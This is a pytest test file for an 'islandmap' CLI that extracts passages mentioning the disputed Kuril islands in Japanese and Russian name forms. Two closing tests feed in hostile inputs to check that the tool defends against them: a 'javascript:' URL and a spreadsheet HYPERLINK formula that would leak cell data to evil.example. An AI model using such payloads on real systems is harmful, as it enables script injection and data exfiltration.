"""`islandmap passages` on the shipped sources, through the CLI as a user runs it."""

from __future__ import annotations

import json
from pathlib import Path

from click.testing import CliRunner

from islandmap import __version__
from islandmap.cli import cli

ROOT = Path(__file__).resolve().parent.parent
SOURCES = str(ROOT / "sources")
TRUMPET_2018 = "2018-09-trumpet-putin-offers-japan-peace-deal.md"
TRUMPET_2017 = "2017-11-trumpet-will-russia-push-japan-to-end-defense-treaty.md"
JAPAN_TODAY = "2018-09-12-japantoday-putin-tells-abe-he-hopes-for-peace-treaty.md"
JAPAN_360 = "2018-09-japan360-from-japan-to-russia-with-love.md"
UNKNOWN = "2018-09-japan-and-russia-still-havent-signed-peace-treaty.md"
SEEDS = {TRUMPET_2018, TRUMPET_2017, JAPAN_TODAY, JAPAN_360, UNKNOWN}


def run(*args: str):
    return CliRunner().invoke(cli, list(args))


def jsonl(*args: str) -> list[dict]:
    result = run("passages", "--sources", SOURCES, "--format", "jsonl", *args)
    assert result.exit_code == 0, result.output
    return [json.loads(line) for line in result.stdout.splitlines()]


def test_version_and_help():
    assert run("--version").output.strip() == f"islandmap, version {__version__}"
    help_text = run("--help").output
    for command in ("passages", "render", "geodata"):
        assert command in help_text


def test_jsonl_schema_is_exact():
    records = jsonl()
    assert records
    for record in records:
        assert list(record) == ["source", "passage", "section", "text", "mentions", "collective"]
        assert record["section"] in ("article", "comments")
        for m in record["mentions"]:
            assert list(m) == ["island", "surface", "lang", "start", "end"]
            assert record["text"][m["start"] : m["end"]] == m["surface"]
        for c in record["collective"]:
            assert list(c) == ["surface", "lang", "start", "end"]
            assert record["text"][c["start"] : c["end"]] == c["surface"]
        assert record["mentions"] or record["collective"]


def test_seeds_join_as_the_articles_say():
    records = jsonl()
    by_source: dict[str, list[dict]] = {}
    for record in records:
        by_source.setdefault(record["source"], []).append(record)
    for source in (TRUMPET_2018, TRUMPET_2017):
        all_four = [
            r
            for r in by_source[source]
            if {m["island"] for m in r["mentions"]} == {"iturup", "kunashir", "shikotan", "habomai"}
        ]
        assert len(all_four) == 1, source
    for source in (JAPAN_TODAY, UNKNOWN):
        assert by_source[source]
        assert all(not r["mentions"] and r["collective"] for r in by_source[source])
    assert JAPAN_360 not in by_source


def test_seed_surface_forms_have_the_right_language():
    [record] = [r for r in jsonl() if r["source"] == TRUMPET_2018 and r["mentions"]]
    assert [(m["surface"], m["lang"]) for m in record["mentions"]] == [
        ("Etorufu", "ja"),
        ("Iturup", "ru"),
        ("Kunashiri", "ja"),
        ("Kunashir", "ru"),
        ("Shikotan", "both"),
        ("Shpanberg", "ru"),
        ("Habomai", "ja"),
    ]
    collective = {
        (c["surface"], c["lang"]) for r in jsonl() if r["source"] in SEEDS for c in r["collective"]
    }
    assert collective == {
        ("Northern Territories", "ja"),
        ("Kuril Islands", "ru"),
        ("Southern Kurils", "ru"),
        ("Kurile islands", "ru"),
    }


def test_island_filter():
    records = jsonl("--island", "habomai")
    sources = {r["source"] for r in records}
    assert sources & SEEDS == {TRUMPET_2018, TRUMPET_2017}
    assert all(any(m["island"] == "habomai" for m in r["mentions"]) for r in records)
    assert len(jsonl("--island", "habomai", "--island", "iturup")) > len(records)


def test_each_island_is_quoted_in_both_name_forms_from_several_sources():
    """The default map serves a lesson: every island's popup has the Japanese and the
    Russian form of its name, from sources on both sides."""
    for island in ("iturup", "kunashir", "shikotan", "habomai"):
        records = jsonl("--island", island)
        forms = {m["lang"] for r in records for m in r["mentions"] if m["island"] == island}
        assert {"ja", "ru"} <= forms, island
        assert len({r["source"] for r in records}) >= 10, island


def test_table_csv_and_json_formats():
    table = run("passages", "--sources", SOURCES).stdout
    assert "Etorufu (iturup, ja)" in table
    assert table.rstrip().endswith("islands named: habomai, iturup, kunashir, shikotan")
    csv_lines = run("passages", "--sources", SOURCES, "--format", "csv").stdout.splitlines()
    assert csv_lines[0] == "source,passage,section,kind,island,surface,lang,start,end,text"
    assert any(",island,iturup,Etorufu,ja," in line for line in csv_lines)
    records = json.loads(run("passages", "--sources", SOURCES, "--format", "json").stdout)
    assert records == jsonl()


def test_missing_sources_folder_is_one_error_line(tmp_path):
    result = run("passages", "--sources", str(tmp_path / "nope"))
    assert result.exit_code == 1
    assert result.output == (
        f"Error: {tmp_path / 'nope'}: folder not found. Create it and put articles (.md or .txt) "
        "in it, or give the folder that holds them with --sources\n"
    )


def test_bad_source_names_the_file(tmp_path):
    (tmp_path / "a.md").write_text("---\ntitle: T\nurl: javascript:alert(1)\n---\nIturup\n")
    result = run("passages", "--sources", str(tmp_path))
    assert result.exit_code == 1
    assert result.output.startswith(f"Error: {tmp_path / 'a.md'}: url 'javascript:alert(1)'")


def test_csv_cells_a_spreadsheet_would_run_are_text(tmp_path):
    (tmp_path / "a.md").write_text(
        '---\ntitle: T\n---\n=HYPERLINK("http://evil.example/?"&A1,"Kunashir")\n', encoding="utf-8"
    )
    result = run("passages", "--sources", str(tmp_path), "--format", "csv")
    assert result.exit_code == 0
    assert "'=HYPERLINK(" in result.stdout
    assert "\n=HYPERLINK" not in result.stdout and ",=HYPERLINK" not in result.stdout
